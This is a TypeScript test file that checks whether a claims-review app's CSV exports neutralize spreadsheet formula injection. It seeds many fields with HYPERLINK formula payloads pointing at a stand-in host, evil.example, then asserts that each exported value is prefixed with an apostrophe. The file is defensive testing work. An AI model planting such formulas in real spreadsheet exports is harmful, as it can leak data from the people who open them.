// Spreadsheet formula injection: text that starts with = + - @ tab or CR, written through the lib
// functions members use (and, for the whitespace leads zod trims away, straight into rows as a
// restore could), comes out of every CSV table with a leading ' so no spreadsheet evaluates it.
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { systemActor } from "@/lib/auth/actor";
import { createClaim, createClaimant } from "@/lib/claims";
import { addComment } from "@/lib/comments";
import { importDocument } from "@/lib/documents";
import { addEvidence } from "@/lib/evidence";
import { CSV_ENTITIES, collect, exportWorkspace } from "@/lib/exports";
import { reviewClaim, submitClaim } from "@/lib/review";
import { createSource } from "@/lib/sources";
import { createTestDatabase, DB_TARGETS, type TestDatabase } from "../support/db";
import { makeUser, makeWorkspace } from "../support/factories";

const LEADS = ["=", "+", "-", "@", "\t", "\r"];
const formula = (lead: string, what: string) => `${lead}HYPERLINK("http://evil.example/?${what}","x")`;
const DANGEROUS = /^[=+\-@\t\r]/;
const NUMBER = /^-?\d+(\.\d+)?$/;

describe.each(DB_TARGETS)("CSV formula injection on $name", (target) => {
  let t: TestDatabase;
  let slug: string;
  const written = new Map<string, string>();

  beforeAll(async () => {
    t = await createTestDatabase(target);
    const ws = await makeWorkspace(t.prisma);
    slug = ws.slug;
    const editor = await makeUser(t.prisma, { workspaceId: ws.id, role: "editor" });
    const reviewer = await makeUser(t.prisma, { workspaceId: ws.id, role: "reviewer" });
    const f = (what: string) => {
      const v = formula(LEADS[written.size % 4], what); // the four leads zod's trim keeps
      written.set(what, v);
      return v;
    };
    const doc = await importDocument(t.prisma, editor.actor, {
      workspace: slug,
      title: f("doc-title"),
      format: "text",
      text: `${f("doc-text")}\n\nA sentence.`,
    });
    const claimant = await createClaimant(t.prisma, editor.actor, slug, {
      name: f("claimant"),
      description: f("claimant-desc"),
      aliases: [f("alias")],
    });
    const source = await createSource(t.prisma, editor.actor, slug, {
      title: f("source"),
      publisher: f("publisher"),
      notes: f("notes"),
      authors: [f("author")],
      page: f("page"),
    });
    const claim = await createClaim(t.prisma, editor.actor, slug, {
      text: f("claim"),
      headline: f("head"),
      claimant: { id: claimant.id },
      documentId: doc.documentId!,
      start: 0,
      end: 8,
    });
    await addEvidence(t.prisma, editor.actor, slug, {
      claimId: claim.id,
      sourceId: source.id,
      stance: "supports",
      excerpt: f("excerpt"),
      locator: f("locator"),
      note: f("ev-note"),
    });
    await addComment(t.prisma, editor.actor, slug, claim.id, { body: f("comment") });
    const rating = await t.prisma.rating.findFirstOrThrow({ where: { scale: { workspaceId: ws.id } } });
    await submitClaim(t.prisma, editor.actor, slug, claim.id, {
      ratingId: rating.id,
      confidence: "low",
      rationale: f("proposal"),
    });
    await reviewClaim(t.prisma, reviewer.actor, slug, claim.id, {
      decision: "request_changes",
      rationale: f("rationale"),
    });
    // Tab and CR leads: lib input trims them, so put them where stored data could carry them.
    for (const lead of ["\t", "\r"]) {
      const v = formula(lead, `raw-${lead.charCodeAt(0)}`);
      written.set(`raw-${lead.charCodeAt(0)}`, v);
      await t.prisma.source.create({ data: { workspaceId: ws.id, title: v, authors: [v], notes: v } });
      await t.prisma.claimant.create({ data: { workspaceId: ws.id, name: v, description: v } });
    }
  });
  afterAll(async () => t?.drop());

  it("no cell of any table starts a formula; every hostile value is there, quoted with '", async () => {
    const all: string[] = [];
    for (const entity of CSV_ENTITIES) {
      const out = await exportWorkspace(t.prisma, systemActor("test"), { workspace: slug, format: "csv", entity });
      const rows = parse((await collect(out.body)).toString("utf8"), { record_delimiter: "\r\n" }) as string[][];
      for (const row of rows.slice(1)) {
        for (const cell of row) {
          all.push(cell);
          if (DANGEROUS.test(cell)) expect(cell, `${entity} cell`).toMatch(NUMBER);
        }
      }
    }
    // The values each table carries are there, neutralized (not dropped): proof the check saw them.
    const exported = [...written].filter(([, v]) => all.some((c) => c.startsWith(`'${v}`)));
    const names = exported.map(([k]) => k);
    for (const k of [
      "doc-title",
      "claimant",
      "claimant-desc",
      "source",
      "publisher",
      "claim",
      "head",
      "excerpt",
      "ev-note",
      "comment",
      "rationale",
      "raw-9",
      "raw-13",
    ])
      expect(names).toContain(k);
    console.log(
      `csv injection (${target.name}): ${exported.length}/${written.size} hostile values exported, all neutralized, in ${CSV_ENTITIES.length} tables (${all.length} cells)`,
    );
  });
});
